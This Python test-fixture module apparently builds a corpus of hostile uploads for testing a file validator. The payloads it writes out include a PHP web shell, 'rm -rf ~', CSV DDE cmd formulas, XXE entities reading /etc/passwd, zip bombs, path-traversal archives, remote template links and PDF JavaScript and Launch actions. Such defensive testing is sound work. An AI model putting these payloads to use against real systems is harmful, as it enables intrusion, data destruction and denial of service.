"""Files that mean harm, made by code, each with what has to become of it."""

import gzip
import io
import random
import struct
import zipfile
import zlib
from functools import cache
from typing import NamedTuple

from PIL import Image

from tests.discussion import good_files as good

#: What no stored byte may hold of a picture that was made anew.
PAYLOAD = b"alert(document.domain)"
HTML = b"<html><body><script>" + PAYLOAD + b"</script></body></html>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ALLOWED = ("pdf", "jpg", "png", "gif", "webp", "txt", "csv", "docx", "xlsx", "pptx", "odt", "ods")


class Hostile(NamedTuple):
    """`remade`: let in as a picture of its pixels only; what is not is refused."""

    what: str
    name: str
    content: bytes
    remade: bool = False


@cache
def corpus(seed: int = 4) -> list[Hostile]:
    made = []
    for family in (
        viruses,
        active_texts,
        programs,
        other_kinds,
        polyglots,
        doctypes,
        climbing_zips,
        bombs,
        macros,
        pdfs,
        truncated,
    ):
        made += [Hostile(f"{family.__name__}: {what}", *rest) for what, *rest in family()]
    random.Random(seed).shuffle(made)
    return made


def viruses():
    for end in (*ALLOWED, "com", "exe", "bat"):
        yield f"EICAR called {end}", f"facture.{end}", EICAR
    yield "EICAR after words", "lettre.txt", b"Bonjour. " + EICAR
    yield "EICAR in a docx", "a.docx", good.docx("Bonjour", **{"word/media/a.bin": EICAR})
    yield "EICAR in an odt", "a.odt", good.odt("Bonjour", **{"Pictures/a": EICAR})
    yield "EICAR in a PDF", "a.pdf", good.pdf("x", objects=(b"% " + EICAR + b"\nnull",))


def active_texts():
    words = {
        "page": HTML,
        "page after a mark": b"\xef\xbb\xbf\r\n  " + HTML,
        "document type": b"<!DOCTYPE html>" + HTML,
        "remark": b"<!-- --><script>" + PAYLOAD + b"</script>",
        "SVG": b'<svg xmlns="http://www.w3.org/2000/svg" onload="' + PAYLOAD + b'"/>',
        "SVG in XML": b'<?xml version="1.0"?><svg onload="' + PAYLOAD + b'"/>',
        "PHP": b"<?php system($_GET['a']); ?>",
        "ASP": b"<% eval request %>",
        "shell": b"#!/bin/sh\nrm -rf ~\n",
        "batch": b"@echo off\r\ndel *.*",
        "rich text": b"{\\rtf1\\object\\objdata 01}",
        "PostScript": b"%!PS-Adobe-3.0\n(a) run",
        "mail page": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML,
        "page in UTF-16": b"\xff\xfe" + HTML.decode().encode("utf-16-le"),
    }
    for what, content in words.items():
        for end in (*ALLOWED, "html", "svg", "js"):
            yield f"{what} called {end}", f"texte.{end}", content
    yield "DDE in a table", "t.csv", b"a;b\r\n=cmd|'/C calc'!A0;1\r\n"
    yield "DDE in a quoted cell", "t.csv", b"a,\"+cmd|'/C calc'!A0\"\r\n"
    yield "escapes of a terminal", "t.txt", b"Bonjour \x1b]0;evil\x07 \x1b[2J"
    yield "NULs", "t.txt", b"Bonjour\x00" + HTML
    yield "controls in UTF-8", "t.txt", "Bonjour \x9b2J".encode()


def programs():
    heads = {
        "MZ": b"MZ\x90\x00\x03\x00\x00\x00",
        "ELF": b"\x7fELF\x02\x01\x01\x00",
        "Mach-O": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01",
        "class": b"\xca\xfe\xba\xbe\x00\x00\x004",
        "wasm": b"\x00asm\x01\x00\x00\x00",
        "shortcut": b"L\x00\x00\x00\x01\x14\x02\x00",
    }
    noise = random.Random(1).randbytes(2000)
    for what, head in heads.items():
        for end in (*ALLOWED, "exe", "pdf.exe"):
            yield f"{what} called {end}", f"programme.{end}", head + noise


def other_kinds():
    image = good.picture(1)
    odp = {"mimetype": "application/vnd.oasis.opendocument.presentation", "content.xml": "<a/>"}
    kinds = {
        "zip": good.zipped({"a.txt": "a"}),
        "jar": good.zipped({"META-INF/MANIFEST.MF": "", "A.class": "a"}),
        "epub": good.zipped({"mimetype": "application/epub+zip", "content.xml": "<a/>"}),
        "odp": good.zipped(odp, stored=("mimetype",)),
        "docm": good.ooxml(
            "word/document.xml", "x", "<a/>", **{"[Content_Types].xml": _types("macro")}
        ),
        "dotx": good.ooxml("word/document.xml", "wordprocessingml.template", "<a/>"),
        "gz": gzip.compress(b"a" * 1000),
        "rar": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 100,
        "7z": b"7z\xbc\xaf\x27\x1c" + b"\x00" * 100,
        "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000,
        "bmp": good.saved(image, "BMP"),
        "tiff": good.saved(image, "TIFF"),
        "ico": good.saved(image, "ICO"),
        "eps": good.saved(image, "EPS"),
        "mp4": b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 100,
        "swf": b"FWS\x06" + b"\x00" * 100,
        "psd": b"8BPS\x00\x01" + b"\x00" * 100,
        "sqlite": b"SQLite format 3\x00" + b"\x00" * 100,
    }
    for what, content in kinds.items():
        for end in (what, "txt", "png", "docx"):
            yield f"{what} called {end}", f"fichier.{end}", content


def polyglots():
    for kind, end in (("JPEG", "jpg"), ("PNG", "png"), ("GIF", "gif"), ("WEBP", "webp")):
        image = good.picture(2, "P" if kind == "GIF" else "RGB")
        content = good.saved(image, kind)
        archive = good.zipped({"evil.html": HTML}, stored=("evil.html",))
        yield f"{end} with a page behind", f"a.{end}", content + HTML, True
        yield f"{end} with a page behind, called html", f"a.{end}.html", content + HTML, True
        yield f"{end} called pdf", "a.pdf", content + HTML, True
        yield f"{end} with a zip behind", f"a.{end}", content + archive, True
        yield f"{end} with a PDF behind", f"a.{end}", content + _js_pdf(), True
        yield f"a page before {end}", f"a.{end}", HTML + content
        yield f"a zip before {end}", f"a.{end}", archive + content
    remark = {"comment": HTML}
    yield "JPEG with a page as remark", "a.jpg", good.saved(good.picture(3), "JPEG", **remark), True
    yield (
        "GIF with a page as remark",
        "a.gif",
        good.saved(good.picture(3, "P"), "GIF", **remark),
        True,
    )
    exif = Image.Exif()
    exif[0x010E] = HTML.decode()
    for kind, end in (("JPEG", "jpg"), ("PNG", "png"), ("WEBP", "webp")):
        picture = good.saved(good.picture(4), kind, exif=exif)
        yield f"{end} with a page in EXIF", f"a.{end}", picture, True
        picture = good.saved(good.picture(4), kind, icc_profile=HTML * 20)
        yield f"{end} with a page as colours", f"a.{end}", picture, True
    for kind, end in (("JPEG", "jpg"), ("WEBP", "webp")):
        picture = good.saved(good.picture(4), kind, xmp=HTML)
        yield f"{end} with a page in XMP", f"a.{end}", picture, True
    png = good.saved(good.picture(5), "PNG")
    for kind in (b"tEXt", b"prVt", b"eXIf", b"iTXt"):
        yield f"PNG with a page in {kind}", "a.png", _with_chunk(png, kind, b"a\x00" + HTML), True
    yield "GIF that is a script", "a.gif", b"GIF89a/*" + b"\x00" * 20 + b"*/=1;" + PAYLOAD
    yield "PDF behind a page", "a.pdf", HTML + good.pdf("a")
    yield "PDF with a page behind", "a.pdf", good.pdf("a") + HTML
    yield "PDF with a zip behind", "a.pdf", good.pdf("a") + good.zipped({"a.html": HTML})
    yield (
        "PDF that is a zip",
        "a.pdf",
        good.pdf("a") + good.zipped({"a": "a"}) + b"\n%%EOF\n",
    )
    for end, make in (("docx", good.docx), ("odt", good.odt), ("xlsx", good.xlsx)):
        yield f"{end} with a page behind", f"a.{end}", make("a") + HTML
        yield f"{end} with a page before", f"a.{end}", HTML + make("a")
        yield f"{end} with a page as its remark", f"a.{end}", _with_remark(make("a"))
        yield f"{end} behind a PDF", f"a.{end}", good.pdf("a") + make("a")


def doctypes():
    laughs = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(10)
    )
    types = {
        "billion laughs": f"<!DOCTYPE d [{laughs}]><d>&l9;</d>",
        "entity of a file": '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>',
        "entity of an address": '<!DOCTYPE d [<!ENTITY x SYSTEM "http://a.example/">]><d>&x;</d>',
        "parameter entity": '<!DOCTYPE d [<!ENTITY % x SYSTEM "http://a.example/"> %x;]><d/>',
        "fetched type": '<!DOCTYPE d SYSTEM "http://a.example/a.dtd"><d/>',
    }
    parts = {
        "docx": ("word/document.xml", "word/styles.xml", "_rels/.rels", "[Content_Types].xml"),
        "xlsx": ("xl/workbook.xml", "xl/sharedStrings.xml"),
        "pptx": ("ppt/presentation.xml", "ppt/slides/slide1.xml"),
        "odt": ("content.xml", "styles.xml", "META-INF/manifest.xml"),
        "ods": ("content.xml", "meta.xml"),
    }
    for what, xml in types.items():
        for end, names in parts.items():
            for name in names:
                content = getattr(good, end)("a", **{name: xml})
                yield f"{what} in {end} {name}", f"a.{end}", content
    utf16 = types["billion laughs"].encode("utf-16")
    yield "billion laughs in UTF-16", "a.docx", good.docx("a", **{"word/styles.xml": utf16})
    style = '<?xml-stylesheet href="javascript:alert(1)"?><a/>'
    yield "a style sheet", "a.docx", good.docx("a", **{"word/styles.xml": style})


def climbing_zips():
    names = {
        "climbs": "../../etc/cron.d/a",
        "climbs inside": "word/../../a",
        "from the root": "/etc/passwd",
        "from a drive": "C:/windows/a",
        "with backslashes": "..\\..\\a",
        "with a share": "\\\\server\\a",
    }
    for end in ("docx", "xlsx", "pptx", "odt", "ods"):
        make = getattr(good, end)
        for what, name in names.items():
            yield f"{end} that {what}", f"a.{end}", make("a", **{name: "a"})
        yield f"{end} with a part twice", f"a.{end}", _twice(make("a"))
        yield f"{end} with a link", f"a.{end}", _with_link(make("a"))
        yield f"{end} with a locked part", f"a.{end}", _locked(make("a"))


def bombs():
    zeros = b"\x00" * 20_000_000
    for end in ("docx", "odt", "xlsx"):
        make = getattr(good, end)
        yield f"{end} of 20 MB of nothing", f"a.{end}", make("a", **{"a.bin": zeros})
        many = {f"p/{n}": "" for n in range(3_500)}
        yield f"{end} of 3,500 parts", f"a.{end}", make("a", **many)
        inner = good.zipped({"a.bin": zeros})
        yield f"{end} with a bomb inside", f"a.{end}", make("a", **{"b.zip": inner})
        yield f"{end} that lies of its size", f"a.{end}", _lying(make("a", **{"a.bin": zeros}))
        deep = make("a")
        for _ in range(5):
            deep = make("a", **{f"word/embeddings/a.{end}": deep})
        yield f"{end} in {end} in {end}", f"a.{end}", deep
    yield "PNG of 50,000 × 50,000", "a.png", good.png_header(50_000, 50_000)
    yield "PNG of 2 billion × 1", "a.png", good.png_header(2**31 - 1, 1)
    yield "PNG of 0 × 0", "a.png", good.png_header(0, 0)
    jpeg = bytearray(good.saved(good.picture(6), "JPEG"))
    at = jpeg.index(b"\xff\xc0")
    jpeg[at + 5 : at + 9] = b"\xff\xff\xff\xff"
    yield "JPEG of 65,535 × 65,535", "a.jpg", bytes(jpeg)
    gif = bytearray(good.saved(good.picture(6, "P"), "GIF"))
    gif[6:10] = b"\xff\xff\xff\xff"
    yield "GIF of 65,535 × 65,535", "a.gif", bytes(gif)
    size = struct.pack("<I", 16382)[:3]
    head = b"VP8X" + struct.pack("<I", 10) + b"\x02\x00\x00\x00" + size + size
    frames = b"ANIM" + struct.pack("<I", 6) + b"\x00" * 6
    body = b"WEBP" + head + frames
    yield "WebP of 16,383 × 16,383", "a.webp", b"RIFF" + struct.pack("<I", len(body)) + body
    yield "GIF of 10,000 views", "a.gif", _long_gif(10_000), True
    png = good.saved(good.picture(7), "PNG")
    text = b"a\x00\x00" + zlib.compress(b"a" * 50_000_000)
    yield "PNG with 50 MB of text", "a.png", _with_chunk(png, b"zTXt", text)
    yield "PDF of 300,000 objects", "a.pdf", good.pdf("a", objects=(b"null",) * 300_000)


def macros():
    rels = "word/_rels/document.xml.rels"
    yield "VBA", "a.docx", good.docx("a", **{"word/vbaProject.bin": b"\xd0\xcf"})
    yield "VBA called otherwise", "a.docx", good.docx("a", **{rels: _vba_rel()})
    yield "VBA in xlsx", "a.xlsx", good.xlsx("a", **{"xl/vbaProject.bin": b"\xd0\xcf"})
    yield "VBA in pptx", "a.pptx", good.pptx("a", **{"ppt/vbaProject.bin": b"\xd0\xcf"})
    yield "macro type", "a.docx", good.docx("a", **{"[Content_Types].xml": _types("macro")})
    yield "old macros", "a.xlsx", good.xlsx("a", **{"xl/macrosheets/sheet1.xml": "<a/>"})
    yield "ActiveX", "a.docx", good.docx("a", **{"word/activeX/activeX1.xml": "<a/>"})
    yield "OLE", "a.docx", good.docx("a", **{"word/embeddings/oleObject1.bin": b"\xd0\xcf"})
    for end in ("exe", "js", "vbs", "lnk", "html", "hta", "ps1", "jar"):
        yield f"{end} inside", "a.docx", good.docx("a", **{f"word/media/a.{end}": b"a"})
    yield "program inside", "a.docx", good.docx("a", **{"word/media/a.png": b"MZ\x90\x00"})
    for what, kind, target in (
        ("template from elsewhere", "attachedTemplate", "https://a.example/a.dotm"),
        ("template from a machine", "attachedTemplate", "file://///192.0.2.1/a/a.dotm"),
        ("template from a share", "attachedTemplate", r"\\192.0.2.1\a\a.dotm"),
        (
            "template from a share, as Word writes it",
            "attachedTemplate",
            r"file:///\\a.example\a.dotm",
        ),
        ("template from a share, hidden", "attachedTemplate", "file:%2f%2fa.example/a.dotm"),
        ("template by mhtml", "attachedTemplate", "mhtml:https://a.example/a.dotm"),
        ("picture from a machine", "image", "file://a.example/a/a.png"),
        ("object from elsewhere", "oleObject", "https://a.example/a.hta"),
        ("frame from elsewhere", "frame", "https://a.example/"),
        ("script as a link", "hyperlink", "javascript:alert(1)"),
        ("page inside", "aFChunk", "a.mht"),
    ):
        yield what, "a.docx", good.docx("a", **{rels: good.links((kind, target, "External"))})
    word = f'<w:document xmlns:w="{good.WORD}"><w:p><w:r>%s</w:r></w:p></w:document>'
    field = '<w:fldChar w:fldCharType="begin"/>%s<w:fldChar w:fldCharType="end"/>'
    whole = "<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"
    pieces = "<w:instrText> DD</w:instrText></w:r><w:r><w:instrText>E calc</w:instrText>"
    yield "DDE", "a.docx", good.word(word % (field % whole))
    yield "DDE in pieces", "a.docx", good.word(word % (field % pieces))
    yield "DDE simply", "a.docx", good.word(word % '<w:fldSimple w:instr="DDE calc"/>')
    dde = f'<externalLink xmlns="{good.SHEET}"><ddeLink ddeService="cmd"/></externalLink>'
    yield "DDE in xlsx", "a.xlsx", good.xlsx("a", **{"xl/externalLinks/externalLink1.xml": dde})
    yield "Basic", "a.odt", good.odt("a", **{"Basic/Standard/Module1.xml": "<a/>"})
    yield "Python", "a.ods", good.ods("a", **{"Scripts/python/a.py": "import os"})
    listener = (
        f'<a xmlns:script="{good.ODF}:script:1.0"><script:event-listener script:event-name='
        '"dom:load"/></a>'
    )
    yield "on opening", "a.odt", good.odt("a", **{"settings.xml": listener})
    link = '<a xmlns:x="http://www.w3.org/1999/xlink" x:href="%s"/>'
    for target in ("vnd.sun.star.script:a.b", "&#x6d;acro:///a.b", "javascript:alert(1)"):
        yield f"link to {target}", "a.odt", good.odt("a", **{"styles.xml": link % target})
    share = link.replace("<a ", "<image ") % "file://a.example/a.png"
    yield "picture from a share", "a.odt", good.odt("a", **{"styles.xml": share})
    dde = f'<a xmlns:office="{good.ODF}:office:1.0"><office:dde-source/></a>'
    yield "DDE in ods", "a.ods", good.ods("a", **{"styles.xml": dde})
    secret = {"META-INF/encryptedpackage": "a"}
    yield "locked odt", "a.odt", good.odt("a", **secret)


def pdfs():
    js = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    deeds = {
        "script on opening": f"/OpenAction {js}",
        "script with its letters hidden": "/OpenAction << /S /J#61vaScript /J#53 (a) >>",
        "key with its letters hidden": "/OpenAction << /#4aS (a) >>",
        "script among names": f"/Names << /JavaScript << /Names [(a) {js}] >> >>",
        "script on closing": f"/AA << /WC {js} >>",
        "program on opening": "/OpenAction << /S /Launch /F (cmd.exe) >>",
        "data from a file": "/OpenAction << /S /ImportData /F (a) >>",
        "embedded document": "/OpenAction << /S /GoToE /F (a) >>",
        "form with scripts": "/AcroForm << /XFA 6 0 R >>",
    }
    for what, catalog in deeds.items():
        for packed in (True, False):
            yield f"{what}, {packed=}", "a.pdf", good.pdf("a", catalog, packed=packed)
    file = b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"
    yield "file inside", "a.pdf", good.pdf("a", objects=(file,))
    yield "film", "a.pdf", good.pdf("a", objects=(b"<< /Subtype /RichMedia >>",))
    note = b"<< /Subtype /Link /A << /S /JavaScript /JS (a) >> >>"
    yield "script in a note", "a.pdf", good.pdf("a", objects=(note,))
    for what, inside in (
        ("script", b"<< /S /JavaScript /JS (a) >>"),
        ("deed", b"<< /S /Launch /F (a) >>"),
        ("file", b"<< /F (a) /EF << /F 3 0 R >> >>"),
    ):
        yield f"{what} packed with others", "a.pdf", _packed_object(inside)
    yield "password", "a.pdf", _locked_pdf()
    yield "zeros", "a.pdf", b"%PDF-1.7\n" + b"\x00" * 5000 + b"\n%%EOF\n"
    yield (
        "no page",
        "a.pdf",
        good.pdf("a").replace(b"/Count 1", b"/Count 0").replace(b"/Kids [3 0 R]", b"/Kids []"),
    )
    yield "pages that contain themselves", "a.pdf", good.pdf("a").replace(b"[3 0 R]", b"[2 0 R]")


def truncated():
    whole = {
        "pdf": good.pdf("a" * 2000, packed=False),
        "docx": good.docx("a" * 2000),
        "xlsx": good.xlsx("a" * 2000),
        "pptx": good.pptx("a" * 2000),
        "odt": good.odt("a" * 2000),
        "ods": good.ods("a" * 2000),
        "jpg": good.saved(good.picture(8), "JPEG"),
        "png": good.saved(good.picture(8), "PNG"),
        "gif": good.saved(good.picture(8, "P"), "GIF"),
        "webp": good.saved(good.picture(8), "WEBP"),
    }
    for end, content in whole.items():
        for eighths in (1, 2, 4, 6):
            yield f"{end}, {eighths}/8", f"a.{end}", content[: len(content) * eighths // 8]
        yield f"{end}, nothing", f"a.{end}", b""


# --- How they are made ---------------------------------------------------------------------------


def _types(_what) -> str:
    return (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override '
        'PartName="/word/document.xml" ContentType="application/vnd.ms-word.document'
        '.macroEnabled.main+xml"/></Types>'
    )


def _vba_rel() -> str:
    kind = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    row = f'<Relationship Id="r" Type="{kind}" Target="a.bin"/>'
    return f'<Relationships xmlns="{good.RELATIONS}">{row}</Relationships>'


def _js_pdf() -> bytes:
    return good.pdf("a", "/OpenAction << /S /JavaScript /JS (" + PAYLOAD.decode() + ") >>")


def _with_chunk(png: bytes, kind: bytes, data: bytes) -> bytes:
    packed = kind + data
    chunk = struct.pack(">I", len(data)) + packed + struct.pack(">I", zlib.crc32(packed))
    return png[:33] + chunk + png[33:]


def _with_remark(data: bytes) -> bytes:
    return data[:-2] + struct.pack("<H", len(HTML)) + HTML


def _twice(data: bytes) -> bytes:
    made = io.BytesIO(data)
    import warnings

    with warnings.catch_warnings(), zipfile.ZipFile(made, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(archive.namelist()[-1], "<b/>")
    return made.getvalue()


def _with_link(data: bytes) -> bytes:
    made = io.BytesIO(data)
    with zipfile.ZipFile(made, "a") as archive:
        link = zipfile.ZipInfo("word/lien")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return made.getvalue()


def _locked(data: bytes) -> bytes:
    """The last part says that it needs a password."""
    made = bytearray(data)
    at = made.rindex(b"PK\x01\x02")
    made[at + 8] |= 1
    return bytes(made)


def _lying(data: bytes) -> bytes:
    """The part of 20 MB says that it has 100 bytes."""
    made, at = bytearray(data), 0
    size = struct.pack("<I", 20_000_000)
    while (at := made.find(size, at)) >= 0:
        made[at : at + 4] = struct.pack("<I", 100)
        at += 4
    return bytes(made)


def _long_gif(views: int) -> bytes:
    first = good.saved(good.picture(9, "P", (16, 16)), "GIF")
    start = first.index(b",", 13 + 3 * 2 ** ((first[10] & 7) + 1))  # behind its colours
    view = b"!\xf9\x04\x00\x01\x00\x00\x00" + first[start:-1]
    return first[:start] + view * views + PAYLOAD.join([b"!\xfe\x16", b"\x00;"])


def _packed_object(inside: bytes) -> bytes:
    """A PDF whose object 6 stands in a packed stream with others, found by a packed table."""
    body = good.pdf("a")
    end = body.index(b"xref\n")
    made = io.BytesIO()
    made.write(body[:end])
    places = {n: body.index(b"%d 0 obj" % n) for n in range(1, 6)}
    places[7] = made.tell()
    stream = zlib.compress(b"6 0 " + inside)
    made.write(
        b"7 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
        % len(stream)
        + stream
        + b"\nendstream\nendobj\n"
    )
    places[8] = made.tell()
    rows = b"\x00\x00\x00\x00\x00"
    for number in range(1, 9):
        if number == 6:
            rows += b"\x02" + struct.pack(">HH", 7, 0)
        else:
            rows += b"\x01" + struct.pack(">HH", places[number], 0)
    table = zlib.compress(rows)
    made.write(
        b"8 0 obj\n<< /Type /XRef /Size 9 /W [1 2 2] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n" % len(table) + table + b"\nendstream\nendobj\n"
        b"startxref\n%d\n%%%%EOF\n" % places[8]
    )
    return made.getvalue()


def _locked_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(good.pdf("a"))))
    writer.encrypt("secret", algorithm="RC4-128")
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()
